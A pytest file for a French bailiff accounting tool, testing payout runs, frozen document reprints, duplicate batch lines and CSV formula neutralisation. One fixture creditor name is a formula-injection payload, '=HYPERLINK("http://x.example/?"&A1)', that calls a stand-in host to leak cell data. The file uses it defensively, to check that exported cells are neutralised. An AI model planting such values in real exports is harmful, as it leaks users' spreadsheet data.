"""Trust (issue 10, items 2-4): a payout run is all or nothing, documents are frozen at issue,
identical lines of a payment batch are flagged. The commands as typed, real files, real SQLite bases."""

import csv
import io
import sqlite3
import subprocess
from decimal import Decimal as D
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clerc_tui.errors import InvalidInput
from clerc_tui.models import LedgerEntry, RemittanceRun
from clerc_tui.models.db import close_database, database, open_database
from clerc_tui.rules.ledger import REMITTANCE
from clerc_tui.rules.text import spreadsheet_safe
from clerc_tui.services import billing, payments, remittances
from clerc_tui.services.context import identify, os_login
from clerc_tui.services.dossier_input import CreditorInput
from clerc_tui.services.dossiers import create_dossier
from tests import postgres
from tests.conftest import TODAY, make_input, migrated_copy, run_clerc

IBAN = "FR7630004000310001234567865"


def _dossier(actor, name: str, iban: str, amount: str):
    creditor = CreditorInput(kind="morale", is_individual=False, activity="bailleur", name=name, iban=iban)
    dossier = create_dossier(actor, make_input(new_creditor=creditor), TODAY)
    payments.record_payment(
        actor,
        dossier.id,
        on=TODAY,
        amount=amount,
        mode="virement",
        payer="Mme Lefèvre",
        bank_reference="VIR 42",
        today=TODAY,
    )
    return dossier


def _payout_base(path: Path, *, with_iban_less: bool = True):
    """Three creditors paid 100 € each on 26/11/2026 (no act billed: no frais, so the sums are
    the creditors'); « =HYPERLINK… » is a name a spreadsheet would run; one has no IBAN."""
    from clerc_tui.services.users import add_user

    migrated_copy(path)
    add_user(os_login(), "Claire Martin", "comptable")  # the accounts run the reversements
    actor = identify()
    dossiers = [
        _dossier(actor, "SCI Les Tilleuls", IBAN, "100"),
        _dossier(actor, '=HYPERLINK("http://x.example/?"&A1)', IBAN, "100"),
    ]
    if with_iban_less:
        dossiers.append(_dossier(actor, "Bailleur Sans Compte", "", "100"))
    close_database()
    return dossiers


def _counts(path: Path) -> tuple[int, int, int]:
    with sqlite3.connect(path) as con:
        return (
            con.execute("SELECT COUNT(*) FROM ledger_entry").fetchone()[0],
            con.execute("SELECT COUNT(*) FROM remittance_run").fetchone()[0],
            con.execute("SELECT COUNT(*) FROM audit_entry").fetchone()[0],
        )


# --- 2. a payout run is all or nothing --------------------------------------------------


@pytest.mark.parametrize("where", ["missing_folder", "directory", "immutable_folder"])
def test_unwritable_csv_records_nothing_and_names_path_and_cause(tmp_path, where):
    base = tmp_path / "etude.db"
    _payout_base(base)
    before = _counts(base)
    if where == "missing_folder":
        target = tmp_path / "no" / "such" / "dir" / "x.csv"
        cause = f"le dossier {target.parent} n'existe pas"
    elif where == "directory":
        target, cause = tmp_path / "virements", "est un dossier"
        target.mkdir()
    else:
        folder = tmp_path / "figé"
        folder.mkdir()
        if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
            pytest.skip("chattr +i is not available on this filesystem")
        target, cause = folder / "x.csv", "opération interdite"
    try:
        result = run_clerc(
            tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run", "--csv", str(target)
        )
    finally:
        if where == "immutable_folder":
            subprocess.run(["chattr", "-i", str(target.parent)], check=True)
    assert result.returncode == 2, result.stderr
    assert str(target) in result.stderr and cause in result.stderr, result.stderr
    assert "Rien n'a été enregistré" in result.stderr and "Traceback" not in result.stderr
    assert _counts(base) == before  # no reversement, no A444-32 line, no audit line
    assert not target.is_file() and [p.name for p in target.parent.glob(".*.tmp")] == []


# A run failing after the rename of its file: tests/test_payout_steps.py (issue 11, runs in steps).


def test_run_holds_back_iban_less_creditor_neutralises_formulas_and_regenerates(tmp_path):
    base = tmp_path / "etude.db"
    tilleuls, formula, no_iban = _payout_base(base)
    target = tmp_path / "virements.csv"
    result = run_clerc(
        tmp_path, "--db", str(base), "--today", "26/11/2026", "reversements", "run", "--csv", str(target)
    )
    assert result.returncode == 0, result.stderr
    written = target.read_bytes()
    rows = list(csv.reader(io.StringIO(written.decode("utf-8")), delimiter=";"))
    # Two transfers (runs order by creditor name: « = » sorts before « S »); the IBAN-less creditor
    # is not a line at all. Each: 100 € received, A444-32 retained 100 × 11,73 % = 11,73 HT
    # → 14,08 TTC, paid back 100 − 14,08 = 85,92 €.
    assert [r[5] for r in rows[1:]] == [formula.reference, tilleuls.reference]
    assert all(r[2] == IBAN and r[4] == "85,92" for r in rows[1:])
    assert no_iban.reference not in written.decode()
    assert any(r[1] == "'" + '=HYPERLINK("http://x.example/?"&A1)' for r in rows[1:])
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert "ATTENTION" in result.stderr and "Bailleur Sans Compte" in result.stderr
    assert no_iban.reference in result.stderr and "sans IBAN" in result.stderr
    # Nothing recorded for the held-back dossier: its 100 € stay due to the next run.
    open_database(str(base))
    assert not LedgerEntry.select().where(LedgerEntry.dossier == no_iban.id, LedgerEntry.kind == REMITTANCE).exists()
    assert [x.reference for x in remittances.plan_run(TODAY)] == [no_iban.reference]
    run_id = RemittanceRun.select().get().id
    # The creditor's IBAN changes afterwards: the file of the run is still the one sent.
    from clerc_tui.models import Creditor

    Creditor.update(iban="FR7610107001011234567890129").where(Creditor.id == tilleuls.creditor_id).execute()
    close_database()
    again = tmp_path / "again.csv"
    result = run_clerc(tmp_path, "--db", str(base), "reversements", "fichier", str(run_id), "--csv", str(again))
    assert result.returncode == 0, result.stderr
    assert again.read_bytes() == written
    result = run_clerc(tmp_path, "--db", str(base), "reversements", "fichier", str(run_id))
    assert result.stdout.encode("utf-8") == written
    result = run_clerc(tmp_path, "--db", str(base), "reversements", "fichier", "99")
    assert result.returncode == 2 and "Reversement n° 99 inconnu" in result.stderr


def test_only_iban_less_creditors_means_nothing_to_pay_and_names_them(actor, tmp_path):
    no_iban = _dossier(actor, "Bailleur Sans Compte", "", "100")
    with pytest.raises(InvalidInput, match=r"Rien à reverser.*sans IBAN : Bailleur Sans Compte"):
        remittances.execute_run(actor, TODAY, today=TODAY, csv_path=tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
    assert not LedgerEntry.select().where(LedgerEntry.dossier == no_iban.id, LedgerEntry.kind == REMITTANCE).exists()


def test_run_made_before_m0012_is_rebuilt_without_empty_iban_lines(actor, tmp_path):
    # A run recorded by an older clerc: no stored file, and one reversement to an IBAN-less creditor.
    paid = _dossier(actor, "SCI Les Tilleuls", IBAN, "100")
    old = _dossier(actor, "Bailleur Sans Compte", "", "100")
    from datetime import datetime

    run = RemittanceRun.create(run_on=TODAY, total=20000, entries=2, created_by="ancien", created_at=datetime.now())
    for d in (paid, old):
        remittances.record_remittance(actor, d.id, on=TODAY, amount=D(100), run_id=run.id, today=TODAY)
    text, missing = remittances.transfer_file(run.id)
    assert missing == [old.reference]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [(r[2], r[5]) for r in rows[1:]] == [(IBAN, paid.reference)]


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("SCI Les Tilleuls", "SCI Les Tilleuls"),
        ("100,00", "100,00"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected


@given(st.text())
def test_spreadsheet_safe_never_starts_a_formula_and_only_adds_a_quote(cell):
    safe = spreadsheet_safe(cell)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe in (cell, "'" + cell)


# --- 3. documents are immutable -------------------------------------------------------


def _interest_dossier(actor):
    from datetime import date

    # 3,65 % a year over 365 days on 10 000 € = 1,00 € a day from 01/11/2026.
    return create_dossier(
        actor,
        make_input(
            title_kind="jugement",
            title_date=date(2026, 11, 1),
            interest_kind="contractual",
            contractual_rate=D("3.65"),
            contractual_day_basis="365",
            interest_from=date(2026, 11, 1),
            claims={"principal": D("10000")},
        ),
        TODAY,
    )


def test_receipt_reprints_as_issued_after_later_entries_the_same_day(actor, db_path, tmp_path):
    from clerc_tui.report.documents import document_html, document_text
    from clerc_tui.services.documents import document_by_number, document_of

    dossier = _interest_dossier(actor)
    pay = payments.record_payment(
        actor, dossier.id, on=TODAY, amount="50", mode="cheque", payer="Mme Lefèvre", today=TODAY
    )
    original = document_text(document_of(pay))
    # 01/11 → 26/11: 25 days × 1,00 € = 25,00 € of interest, no frais yet: the 50 € go
    # 0,00 frais, 25,00 intérêts, 25,00 principal; left 10 000 + 25 − 50 = 9 975,00 €.
    assert "Imputé sur les intérêts    25,00" in original.replace("\u00a0", " ").replace("\u202f", " ")
    assert "9\u202f975,00" in original or "9\u00a0975,00" in original
    # The same day: an act billed (its frais would now be imputed first) and another payment.
    billing.bill_act(actor, dossier.id, "signification_jugement", TODAY, today=TODAY)
    payments.record_payment(actor, dossier.id, on=TODAY, amount="300", mode="virement", today=TODAY)
    reprint = document_text(document_by_number(pay.document_number))
    assert reprint.startswith(original.split("Reçu n°")[0] + "*** DUPLICATA ***\n")
    assert reprint.replace("*** DUPLICATA ***\n", "") == original
    assert "<strong>DUPLICATA</strong>" in document_html(document_by_number(pay.document_number.lower()))
    # The command prints the same duplicate.
    close_database()
    result = run_clerc(tmp_path, "--db", str(db_path), "document", pay.document_number)
    assert result.returncode == 0 and result.stdout == reprint, result.stderr


def test_rejected_cheque_reprints_annule_and_other_reversals_say_why(actor):
    from datetime import date

    from clerc_tui.report.documents import document_text
    from clerc_tui.services.documents import document_by_number

    dossier = _interest_dossier(actor)
    cheque = payments.record_payment(actor, dossier.id, on=date(2026, 11, 20), amount="50", mode="cheque", today=TODAY)
    transfer = payments.record_payment(actor, dossier.id, on=TODAY, amount="20", mode="virement", today=TODAY)
    kept = payments.record_payment(actor, dossier.id, on=TODAY, amount="10", mode="cheque", today=TODAY)
    payments.reverse_entry(actor, cheque.id, "chèque rejeté", TODAY, today=TODAY)
    payments.reverse_entry(actor, transfer.id, "erreur de dossier", TODAY, today=TODAY)
    text = document_text(document_by_number(cheque.document_number))
    # The rejection date is the reversal's (26/11), not the payment's (20/11).
    assert "*** DUPLICATA ***\n*** ANNULÉ — chèque rejeté le 26/11/2026 ***\nReçu n°" in text
    assert "ANNULÉ — paiement annulé le 26/11/2026 (motif : erreur de dossier)" in document_text(
        document_by_number(transfer.document_number)
    )
    assert "ANNULÉ" not in document_text(document_by_number(kept.document_number))


def test_invoice_reprints_as_issued_and_says_its_credit_note(actor, sample_dossier):
    from clerc_tui.models import Etude
    from clerc_tui.report.documents import document_text
    from clerc_tui.services.documents import document_by_number, document_of

    Etude.create(name="Étude Martin", city="Lyon")
    fee = billing.bill_act(actor, sample_dossier.id, "commandement_saisie_vente", TODAY, today=TODAY, claim=D(3000))
    original = document_text(document_of(fee))
    Etude.update(name="SCP Martin & Associés", city="Villeurbanne").execute()
    avoir = payments.reverse_entry(actor, fee.id, "acte non signifié", TODAY, today=TODAY)
    reprint = document_text(document_by_number(fee.document_number))
    assert reprint.startswith("Étude Martin\nLyon\n\n") and "SCP Martin" not in reprint
    # The tariff's remarks stay at the foot, never in the étude's header.
    assert "\n* Tarif à confirmer" in reprint
    assert (
        reprint.replace("*** DUPLICATA ***\n", "").replace(
            f"*** ANNULÉE par l'avoir {avoir.document_number} du 26/11/2026 ***\n", ""
        )
        == original
    )
    credit = document_text(document_by_number(avoir.document_number))
    assert "*** DUPLICATA ***" in credit and "annule la facture " + fee.document_number in credit
    assert "ANNULÉE" not in credit


def test_document_issued_before_m0012_is_reconstituted_and_snapshots_are_append_only(actor):
    from peewee import IntegrityError, OperationalError

    from clerc_tui.models import DocumentSnapshot
    from clerc_tui.report.documents import document_text
    from clerc_tui.services.documents import document_by_number

    dossier = _interest_dossier(actor)
    pay = payments.record_payment(actor, dossier.id, on=TODAY, amount="50", mode="virement", today=TODAY)
    snapshot = DocumentSnapshot.get(DocumentSnapshot.document_number == pay.document_number)
    with pytest.raises((IntegrityError, OperationalError), match="append-only"):
        DocumentSnapshot.update(data="{}").where(DocumentSnapshot.id == snapshot.id).execute()
    with pytest.raises((IntegrityError, OperationalError), match="append-only"):
        DocumentSnapshot.delete().execute()
    # A base from before m0012 has no snapshot for its documents.
    if postgres.enabled():
        database.execute_sql('ALTER TABLE "document_snapshot" DISABLE TRIGGER "document_snapshot_no_change"')
    else:
        database.execute_sql('DROP TRIGGER "document_snapshot_no_delete"')
    DocumentSnapshot.delete().execute()
    text = document_text(document_by_number(pay.document_number))
    assert "*** DUPLICATA reconstitué : document émis avant l'archivage" in text
    assert "Imputé sur les intérêts" in text and "50,00" in text


# --- 4 (part). identical lines of a batch are flagged before it is recorded ---------------


def test_identical_batch_lines_are_refused_until_confirmed(actor, sample_dossier):
    from clerc_tui.services import payments

    def line(amount, mode="cheque", ref="CHQ 0042"):
        return payments.check_line(sample_dossier.reference, amount, "26/11/2026", mode, ref, today=TODAY)

    batch = [
        line("50"),
        line("50", ref="chq  0042"),
        line("50", mode="virement"),
        line("50", ref="CHQ 43"),
        line("60"),
        line("50"),
    ]
    # Same dossier, amount, mode and reference (case and spaces aside): lines 1, 2 and 6.
    assert payments.duplicate_groups(batch) == [(1, 2, 6)]
    with pytest.raises(
        InvalidInput,
        match=r"lignes 1, 2 et 6 identiques .*50,00.*Chèque, réf\. CHQ 0042.*"
        r"rien n'a été enregistré",
    ):
        payments.record_batch(actor, batch, today=TODAY)
    assert LedgerEntry.select().count() == 0
    kept, removed = payments.without_duplicates(batch)
    assert removed == [2, 6] and payments.duplicate_groups(kept) == []
    assert len(payments.record_batch(actor, batch, today=TODAY, allow_duplicates=True)) == 6


def test_fec_export_to_an_unwritable_path_names_it_and_leaves_no_partial_file(tmp_path):
    base = tmp_path / "etude.db"
    _payout_base(base, with_iban_less=False)
    target = tmp_path / "absent" / "fec.txt"
    result = run_clerc(
        tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026", "--out", str(target)
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"Export FEC {target} non écrit : le dossier {target.parent} n'existe pas" in result.stderr
    good = tmp_path / "fec.txt"
    result = run_clerc(
        tmp_path, "--db", str(base), "export", "fec", "--from", "01/11/2026", "--to", "26/11/2026", "--out", str(good)
    )
    assert result.returncode == 0 and good.read_text(encoding="utf-8").startswith("JournalCode|")
    assert [p.name for p in tmp_path.glob(".*.tmp")] == []


def test_held_back_creditor_is_paid_by_the_next_run_once_its_iban_is_recorded(tmp_path):
    base = tmp_path / "etude.db"
    _, _, no_iban = _payout_base(base)
    db = ["--db", str(base), "--today", "26/11/2026"]
    first = run_clerc(tmp_path, *db, "reversements", "run", "--csv", str(tmp_path / "1.csv"))
    assert first.returncode == 0 and no_iban.reference not in (tmp_path / "1.csv").read_text(encoding="utf-8")
    bad = run_clerc(tmp_path, *db, "reversements", "iban", "bailleur sans", "FR76 3000 4000 3100 0123 4567 866")
    assert bad.returncode == 2 and "clé de contrôle" in bad.stderr and "Traceback" not in bad.stderr
    good = run_clerc(
        tmp_path, *db, "reversements", "iban", "bailleur sans", "fr76 3000 4000 3100 0123 4567 865", "--bic", "bnpafrpp"
    )
    assert good.returncode == 0 and "Bailleur Sans Compte : IBAN FR76 3000 4000 3100 0123 4567 865" in good.stdout
    second = run_clerc(tmp_path, *db, "reversements", "run", "--csv", str(tmp_path / "2.csv"))
    assert second.returncode == 0 and "ATTENTION" not in second.stderr
    [row] = list(csv.reader(io.StringIO((tmp_path / "2.csv").read_text(encoding="utf-8")), delimiter=";"))[1:]
    # 100 € received, A444-32 14,08 TTC retained, 85,92 € paid to the account just recorded.
    assert (row[2], row[3], row[4], row[5]) == (IBAN, "BNPAFRPP", "85,92", no_iban.reference)
    with sqlite3.connect(base) as con:
        [(before,)] = con.execute("SELECT before FROM audit_entry WHERE action = 'creditor.bank'")
    assert '"iban": ""' in before
